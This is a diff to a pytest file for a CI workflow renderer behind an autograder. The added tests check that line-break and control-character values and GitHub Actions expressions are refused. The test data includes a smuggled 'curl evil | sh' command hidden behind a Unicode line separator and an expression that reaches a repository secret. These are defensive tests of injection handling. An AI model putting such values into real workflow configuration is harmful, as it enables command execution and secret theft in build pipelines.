@@ -46,8 +46,9 @@ def test_hostile_folder_and_package_stay_one_yaml_string_and_one_shell_word(prov
     assert changes == [f"{HOSTILE}/**" if provider == "github" else f"{HOSTILE}/**/*"]
 
 
-@pytest.mark.parametrize("value", ["a\nrun: evil", "a\rb", "a\x1b[2J"])
+@pytest.mark.parametrize("value", ["a\nrun: evil", "a\rb", "a\x1b[2J", "a\u2028- curl evil | sh", "a\x85b", "a\u2029b", "a\u202eb"])
 def test_a_value_that_would_open_a_line_is_refused(value: str) -> None:
+    """YAML breaks lines at U+0085, U+2028 and U+2029 too."""
     with pytest.raises(ValueError, match="line break or a control character"):
         render_workflow("github", "class", WorkflowSettings(submissions=value))
 
@@ -66,3 +67,8 @@ def test_the_autograder_script_quotes_each_option() -> None:
 def test_a_kit_file_and_its_caller_must_name_the_same_values() -> None:
     with pytest.raises(KeyError, match="takes"):
         fill_kit("run_autograder", {"options": [], "extra": 1})
+
+
+def test_a_github_expression_in_a_value_is_refused() -> None:
+    with pytest.raises(ValueError, match="GitHub Actions would evaluate"):
+        render_workflow("github", "class", WorkflowSettings(package="x${{ secrets.GRADER_SPLIT_SEED }}"))
